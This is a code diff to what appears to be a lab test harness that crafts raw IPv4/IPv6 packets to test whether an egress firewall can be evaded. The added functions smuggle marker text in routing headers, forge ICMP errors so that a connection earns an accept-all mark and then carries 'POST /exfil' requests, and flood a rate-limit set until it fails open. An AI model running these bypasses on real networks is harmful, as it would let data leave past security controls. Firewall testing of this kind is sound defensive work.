@@ -120,6 +120,32 @@ def v6_ah(s6, d6, mark, count, sport=41401, conn=True, ah_on=True):
     time.sleep(0.5)
     if c: c.close()
 
+def v6_srh_live(s6, d6, mark, count, rtype=4):
+    """Bare ACKs of an allowed IPv6 TLS connection after a routing header
+    whose segments left is 1 (not spent): the forward chain sends it to
+    block_out6, whose `rt seg-left 0' hold does not match, so the allow
+    mark accepts it.  The destination is cn, the last segment (segments[0])
+    is cn too, the others are text (62 segments, 992 bytes)."""
+    sport = 41408 if rtype == 4 else 41409
+    S6, D6 = socket.inet_pton(socket.AF_INET6, s6), socket.inet_pton(socket.AF_INET6, d6)
+    c, seq, ack = tls_conn(socket.AF_INET6, s6, d6, sport)
+    r6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    text = text_for(mark, 992)
+    t0 = time.monotonic()
+    for i in range(int(count)):
+        tcp = tcp6(S6, D6, sport, 443, seq, ack, 0x10)
+        segs = D6 + text
+        n = len(segs) // 16
+        if rtype == 4:
+            rh = bytes([6, len(segs) // 8, 4, 1, n - 1, 0, 0, 0]) + segs
+        else:   # type 0 (deprecated; RFC 5095): reserved word, then addresses
+            rh = bytes([6, len(segs) // 8, 0, 1, 0, 0, 0, 0]) + segs
+        ip = struct.pack("!IHBB", 0x60000000, len(rh) + len(tcp), 43, 64) + S6 + D6
+        r6.sendto(ip + rh + tcp, (d6, 0))
+    report(int(count), len(text), t0)
+    time.sleep(0.5)
+    c.close()
+
 # --- 2. ICMP errors quoting an allowed connection ---------------------------------
 def icmp_err(s4, d4, mark, count):
     """Port-unreachable errors from the client to cn, quoting a segment cn
@@ -160,12 +186,103 @@ def icmp6_err(s6, d6, mark, count):
     time.sleep(0.5)
     c.close()
 
+# --- 2b. an ICMP error from a conforming host marks a CN connection "no set matched"
+def f2_bypass(s4, d4, mark, count, v6=False, s6=None, d6=None):
+    """A real connection to cn:8080 (the gate holds its payload until the
+    verdict), then a cooperating host in the conforming tier (us, via
+    EF_US_NS/EF_US4/EF_US6) sends the client an ICMP destination
+    unreachable quoting the client's segment to cn.  Conntrack calls it
+    RELATED to the client->cn connection (the outer destination is the
+    client, as for a real error from a router on the way).  prefilter sees
+    no set match (us -> client) and sets the 0xf2 "no set matched" mark on
+    the *connection's* ct; from then on the forward chain's first rule
+    accepts every packet of it before any block-tier rule.  Then COUNT
+    HTTP requests of readable text on the connection."""
+    import subprocess
+    src, dst = (s6, d6) if v6 else (s4, d4)
+    af = socket.AF_INET6 if v6 else socket.AF_INET
+    sport = (41412 if v6 else 41411) + (10 if os.environ.get("EF_SELF_RELAY") else 0) + (20 if os.environ.get("EF_NO_RELAY") else 0)
+    t = socket.socket(af); t.bind((src, sport)); t.settimeout(3)
+    dport = 9000 if os.environ.get("EF_BULK") else 8080   # the bulk to the sink, which reads and drops
+    os.environ["EF_DPORT"] = str(dport)
+    t.connect((dst, dport))
+    if os.environ.get("EF_SELF_RELAY"):
+        # no cooperating host: the client sends the error to itself, in a
+        # frame to the gateway's MAC; the gateway forwards it back out of
+        # the interface it came in on, through the forward hook
+        icmp_relay(src, dst, src, str(sport), v6=v6, via_mac=os.environ["EF_GW_MAC"])
+    elif os.environ.get("EF_NO_RELAY") is None:
+        subprocess.run(["ip", "netns", "exec", os.environ["EF_US_NS"], sys.executable, os.path.abspath(__file__),
+                        "icmp-relay6" if v6 else "icmp-relay", src, dst, os.environ["EF_US6" if v6 else "EF_US4"],
+                        str(sport)], check=True)
+    time.sleep(0.5)
+    body = text_for(mark, 1000)
+    t0 = time.monotonic()
+    sent = 0
+    if os.environ.get("EF_BULK"):
+        # COUNT megabytes at once: how fast the bypassed connection goes
+        chunk = text_for(mark, 1 << 20)
+        t0 = time.monotonic()
+        for i in range(int(count)):
+            t.sendall(chunk)
+        report(int(count), len(chunk), t0)
+        time.sleep(1)
+        t.close()
+        return
+    try:
+        for i in range(int(count)):
+            t.send(b"POST /exfil HTTP/1.1\r\nHost: cn\r\nContent-Length: 1000\r\n\r\n" + body)
+            sent += 1
+            time.sleep(0.02)
+    except OSError as e:
+        print("send %d: %s" % (sent, e), flush=True)
+    report(sent, len(body), t0)
+    time.sleep(1)
+    t.close()
+
+def icmp_relay(client, cn, us, sport, v6=False, via_mac=None):
+    """(in the us namespace) the ICMP error to the client quoting its
+    segment to cn; with VIA_MAC (from the client itself, US = the client),
+    sent as a frame to that MAC."""
+    def send(pkt, af):
+        if via_mac:
+            l = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+            l.bind(("eth0", 0))
+            src_mac = open("/sys/class/net/eth0/address").read().strip()
+            l.send(bytes.fromhex(via_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) +
+                   (b"\x86\xdd" if af == socket.AF_INET6 else b"\x08\x00") + pkt)
+        else:
+            socket.socket(af, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(pkt, (client, 0))
+    if not v6:
+        inner = ip4(client, cn, 6, struct.pack("!HHI", int(sport), int(os.environ.get("EF_DPORT", "8080")), 1), 1)[:28]
+        body = struct.pack("!BBHI", 3, 1, 0, 0) + inner
+        body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
+        send(ip4(us, client, 1, body, 1), socket.AF_INET)
+    else:
+        C, N, U = (socket.inet_pton(socket.AF_INET6, a) for a in (client, cn, us))
+        itcp = struct.pack("!HHI", int(sport), int(os.environ.get("EF_DPORT", "8080")), 1)
+        inner = struct.pack("!IHBB", 0x60000000, 20, 6, 64) + C + N + itcp
+        body = struct.pack("!BBHI", 1, 3, 0, 0) + inner
+        ph = U + C + struct.pack("!IxxxB", len(body), 58)
+        body = body[:2] + struct.pack("!H", csum(ph + body)) + body[4:]
+        send(struct.pack("!IHBB", 0x60000000, len(body), 58, 64) + U + C + body, socket.AF_INET6)
+    print("relayed", flush=True)
+
 # --- 3. the allowed layouts' free words on an allowed connection -----------------
 def sack_allowed(s4, d4, mark, count):
     """Bare ACKs of an allowed TLS connection in the doff-15 layout
     (timestamps + 3 SACK blocks): 32 free bytes each, no bound after the verdict."""
     sport = 41404
-    c, seq, ack = tls_conn(socket.AF_INET, s4, d4, sport)
+    # Without SACK-permitted in the handshake conntrack does not read the
+    # SACK blocks (with it, an edge after the peer's end makes the segment
+    # invalid: then the ISN decides, 3000 of 3000 or 32 in two runs).  The
+    # insider owns the client's stack: turn SACK off for this connection.
+    with open("/proc/sys/net/ipv4/tcp_sack") as f: old = f.read()
+    with open("/proc/sys/net/ipv4/tcp_sack", "w") as f: f.write("0")
+    try:
+        c, seq, ack = tls_conn(socket.AF_INET, s4, d4, sport)
+    finally:
+        with open("/proc/sys/net/ipv4/tcp_sack", "w") as f: f.write(old)
     r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     t0 = time.monotonic()
     for i in range(int(count)):
@@ -185,6 +302,33 @@ def port_spray(s4, d4, mark, count, flags=0x10):
         sport = 10000 + i % 50000
         r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 9000, 1000 + i, 5000, flags, sack_opts(mark, i)), i), (d4, 0))
     report(int(count), 32, t0)
+
+def bucket_full(s4, d4, mark, count, fill=270000, sport=41410):
+    """First FILL RSTs without text, each its own 5-tuple (source port x
+    destination port), to fill bare_flows4 (262,144 entries, 60 s each);
+    then a connection to the silent sink on cn:9000 (undecided) and COUNT
+    bare ACKs on it in the doff-15 layout, the marker in their SACK edges.
+    With room in the set, 32 of them pass (the bucket); a full set makes
+    `update' fail, the rule not match, and the next rule accept."""
+    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    t0 = time.monotonic()
+    for i in range(fill):
+        sport, dport = 1024 + i % 60000, 20000 + i // 60000
+        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, dport, i, 0, 0x04), i), (d4, 0))
+    print("filled %d in %.1f s" % (fill, time.monotonic() - t0), flush=True)
+    sn = sniffer()
+    t = socket.socket(); t.bind((s4, sport)); t.connect((d4, 9000))
+    time.sleep(0.3)
+    seq, ack = last_seq(sn, False, s4, sport)
+    t0 = time.monotonic()
+    for i in range(int(count)):
+        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 9000, seq, ack, 0x10, sack_opts(mark, i)), i), (d4, 0))
+    report(int(count), 32, t0)
+    t.close()
+
+def ack_flood_one(s4, d4, mark, count):
+    """The control for bucket-full: the same connection and ACKs, no filling."""
+    bucket_full(s4, d4, mark, count, fill=0, sport=41413)
 
 # --- 5. SYNs: a layout's free words, a new connection each ------------------------
 def syn_spray(s4, d4, mark, count):
@@ -241,11 +385,23 @@ def header_fields(s4, d4, mark, count):
     c.close()
 
 def main():
+    if sys.argv[1] in ("icmp-relay", "icmp-relay6"):
+        return icmp_relay(*sys.argv[2:6], v6=sys.argv[1] == "icmp-relay6")
     kind, s4, d4, s6, d6, mark, count = sys.argv[1:8]
     {
         "v6-ah-allowed": lambda: v6_ah(s6, d6, mark, count),
         "v6-ah-undecided": lambda: v6_ah(s6, d6, mark, count, sport=30000, conn=False),
         "v6-ack-port-spray": lambda: v6_ah(s6, d6, mark, count, sport=30000, conn=False, ah_on=False),
+        "v6-srh-live-allowed": lambda: v6_srh_live(s6, d6, mark, count),
+        "v6-rh0-live-allowed": lambda: v6_srh_live(s6, d6, mark, count, rtype=0),
+        "bucket-full": lambda: bucket_full(s4, d4, mark, count),
+        "ackflood-one": lambda: ack_flood_one(s4, d4, mark, count),
+        "f2-bypass": lambda: f2_bypass(s4, d4, mark, count),
+        "f2-bypass6": lambda: f2_bypass(s4, d4, mark, count, v6=True, s6=s6, d6=d6),
+        "f2-self": lambda: (os.environ.__setitem__("EF_SELF_RELAY", "1"), f2_bypass(s4, d4, mark, count)),
+        "f2-self6": lambda: (os.environ.__setitem__("EF_SELF_RELAY", "1"), f2_bypass(s4, d4, mark, count, v6=True, s6=s6, d6=d6)),
+        "f2-self-bulk": lambda: (os.environ.__setitem__("EF_SELF_RELAY", "1"), os.environ.__setitem__("EF_BULK", "1"), f2_bypass(s4, d4, mark, count)),
+        "f2-control": lambda: (os.environ.__setitem__("EF_NO_RELAY", "1"), f2_bypass(s4, d4, mark, count)),
         "icmp-err-allowed": lambda: icmp_err(s4, d4, mark, count),
         "icmp6-err-allowed": lambda: icmp6_err(s6, d6, mark, count),
         "sack-allowed": lambda: sack_allowed(s4, d4, mark, count),
